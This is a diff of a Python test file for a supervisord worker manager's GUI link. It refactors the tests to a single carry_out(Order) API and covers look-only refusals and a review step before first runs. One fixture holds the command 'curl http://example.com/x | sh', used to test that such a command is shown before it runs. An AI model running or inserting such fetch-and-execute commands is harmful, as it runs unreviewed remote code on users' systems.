@@ -11,7 +11,8 @@ from PySide6.QtWidgets import QPlainTextEdit, QWidget
 from pqdesk import Workspace
 from pqdesk.errors import LookOnly, SupervisorError
 from pqdesk.gui.dialogs.first_start import FirstStartDialog
-from pqdesk.gui.threads.orders import SaveRequest, WorkerOrder
+from pqdesk.gui.notices import describe_done
+from pqdesk.gui.threads.orders import Order, SaveRequest, Workers
 from pqdesk.gui.threads.supervisor_link import SupervisorLink
 from pqdesk.paths import WorkspacePaths
 from pqdesk.services.workers import workers_of
@@ -67,37 +68,48 @@ def test_it_looks_often_only_while_somebody_watches_or_something_changes(
 
 @pytest.mark.parametrize("verb", ["start", "stop", "restart"])
 def test_orders_are_passed_on_and_the_news_follows(link: SupervisorLink, supervision: FakeSupervision, verb) -> None:
-    done, news = collect(link.action_done), collect(link.status_changed)
+    began, done, news = collect(link.began), collect(link.done), collect(link.status_changed)
+    order, supervision.activity_id = Order(verb, Workers(("consumer",))), 7
 
-    getattr(link, verb)("consumer")
+    link.carry_out(order)
 
     assert supervision.told == [(verb, "consumer")]
-    assert "consumer" in done[0][0]
+    assert began == [(order,)]
+    assert [one.order for (one,) in done] == [order]
     assert len(news) == 1
 
 
 def test_a_refusal_is_told_in_its_words(link: SupervisorLink, supervision: FakeSupervision) -> None:
-    failures, done = collect(link.action_failed), collect(link.action_done)
+    done = collect(link.done)
     supervision.error = SupervisorError("supervisord does not answer")
 
-    link.stop("all")
+    link.carry_out(Order("stop", Workers()))
 
-    assert (failures, done) == ([("supervisord does not answer",)], [])
+    assert [describe_done(one) for (one,) in done] == ["supervisord does not answer"]
+
+
+def test_an_error_that_nobody_expected_is_told_too(link: SupervisorLink, supervision: FakeSupervision) -> None:
+    done = collect(link.done)
+    supervision.error = RuntimeError("oops")  # type: ignore[assignment]
+
+    link.carry_out(Order("stop", Workers()))
+
+    assert [str(one.error) for (one,) in done] == ["oops"]
 
 
 def test_starting_the_daemon_is_told_by_its_status_alone(link: SupervisorLink, supervision: FakeSupervision) -> None:
-    done = collect(link.action_done)
+    done = collect(link.done)
 
-    link.start_daemon()
+    link.carry_out(Order("start_daemon", Workers()))
 
     assert supervision.told == [("ensure_running", "")]
-    assert done == []
+    assert [describe_done(one) for (one,) in done] == [""]
 
 
 def test_the_end_of_a_shut_down_is_told_apart_from_other_orders(link: SupervisorLink, supervision) -> None:
     ended = collect(link.shut_down_ended)
 
-    link.stop("all")
+    link.carry_out(Order("stop", Workers()))
     assert ended == []
     link.shut_down()
     supervision.error = SupervisorError("it hangs")
@@ -110,17 +122,16 @@ def test_orders_of_the_window_are_refused_where_people_may_only_look(qapp: objec
     with Workspace(tmp_path) as workspace:
         workspace.look_only = True
     link = SupervisorLink(lambda: workers_of(WorkspacePaths(tmp_path)))
-    failures, saved, ended = collect(link.action_failed), collect(link.saved), collect(link.shut_down_ended)
+    done, saved, ended = collect(link.done), collect(link.saved), collect(link.shut_down_ended)
 
-    link.start("all")
+    link.carry_out(Order("start", Workers()))
     link.shut_down()
     link.save(SaveRequest(WorkerDefinition(name="second", command=("true",)), is_new=True), 7)
 
-    assert [text.partition(" is set to ")[2] for (text,) in failures] == [
+    assert [text.partition(" is set to ")[2] for text in (describe_done(done[0][0]), ended[0][0])] == [
         "look only, so nothing was started; 'pqdesk look-only off' lifts that",
         "look only, so nothing was stopped; 'pqdesk look-only off' lifts that",
     ]
-    assert ended == [(failures[1][0],)]
     [(token, error)] = saved
     assert (token, type(error)) == (7, LookOnly)
 
@@ -128,12 +139,12 @@ def test_orders_of_the_window_are_refused_where_people_may_only_look(qapp: objec
 PLANNED = PlannedCommand("mail", "curl http://example.com/x | sh", 2, Path("/srv"), True)
 
 
-@pytest.mark.parametrize("verb", ["start", "restart", "scale", "bring_back", "restart_daemon", "start_daemon"])
+@pytest.mark.parametrize("verb", ["start", "restart", "scale", "undo_edit", "restart_daemon", "start_daemon"])
 def test_what_somebody_else_wrote_is_shown_before_it_runs_for_the_first_time(
     link: SupervisorLink, supervision: FakeSupervision, verb: str
 ) -> None:
     supervision.unseen = (PLANNED,)
-    found, order = collect(link.first_start_found), WorkerOrder(verb, ("mail",), 1)  # type: ignore[arg-type]
+    found, order = collect(link.first_start_found), Order(verb, Workers(("mail",), 1))
 
     link.carry_out(order)
 
@@ -147,8 +158,8 @@ def test_it_runs_when_it_was_seen_and_is_not_asked_about_again(
     supervision.unseen = (PLANNED,)
     found = collect(link.first_start_found)
 
-    link.carry_out_seen(WorkerOrder("start", ("mail",)))
-    link.start("all")
+    link.carry_out_seen(Order("start", Workers(("mail",))))
+    link.carry_out(Order("start", Workers()))
 
     assert found == []
     assert supervision.told == [("start", "mail"), ("start", "all")]
@@ -157,7 +168,7 @@ def test_it_runs_when_it_was_seen_and_is_not_asked_about_again(
 def test_stopping_asks_nothing(link: SupervisorLink, supervision: FakeSupervision) -> None:
     supervision.unseen = (PLANNED,)
 
-    link.stop("all")
+    link.carry_out(Order("stop", Workers()))
 
     assert supervision.told == [("stop", "all")]
 
@@ -169,7 +180,7 @@ def test_a_worker_of_ones_own_starts_no_others_unseen(link: SupervisorLink, supe
 
     link.save(SaveRequest(mine, is_new=True, is_started=True), 1)
 
-    assert [one[1].names for one in found] == [("mine",)]
+    assert [one[1].target.names for one in found] == [("mine",)]
     assert [one[:2] for one in supervision.told] == [("add", mine)]
 
 
